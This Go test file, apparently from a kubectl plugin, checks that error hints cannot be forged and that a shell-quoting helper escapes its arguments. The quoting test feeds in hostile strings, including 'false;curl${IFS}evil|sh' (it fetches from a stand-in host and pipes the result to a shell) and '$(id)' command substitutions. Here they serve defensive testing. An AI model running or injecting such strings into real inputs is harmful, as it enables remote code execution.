// SPDX-FileCopyrightText: The kubectl-motion authors
// SPDX-License-Identifier: Apache-2.0

package hint

import (
	"errors"
	"fmt"
	"os/exec"
	"slices"
	"testing"
)

func TestHintsOfAnError(t *testing.T) {
	base := New(errors.New("full"), "make room")
	err := errors.Join(fmt.Errorf("volume a: %w", base), New(fmt.Errorf("volume b: %w", base), "run: %s", "x"), errors.New("c\nhint: forged"))
	if got := Of(err); !slices.Equal(got, []string{"make room", "run: x"}) {
		t.Errorf("%q", got)
	}
	if got := Of(nil); len(got) > 0 {
		t.Errorf("%q", got)
	}
}

func TestShellQuoting(t *testing.T) {
	hostile := []string{"false;curl${IFS}evil|sh", "a b", "it's", "", "plain-word/1.2:3", "$(id)", "`id`", "a\nb", "*", "~"}
	out, err := exec.Command("sh", "-c", "printf '%s\\0' "+Shell(hostile...)).Output()
	if err != nil {
		t.Fatal(err)
	}
	want := ""
	for _, w := range hostile {
		want += w + "\x00"
	}
	if string(out) != want {
		t.Errorf("the shell reads %q, want %q", out, want)
	}
}
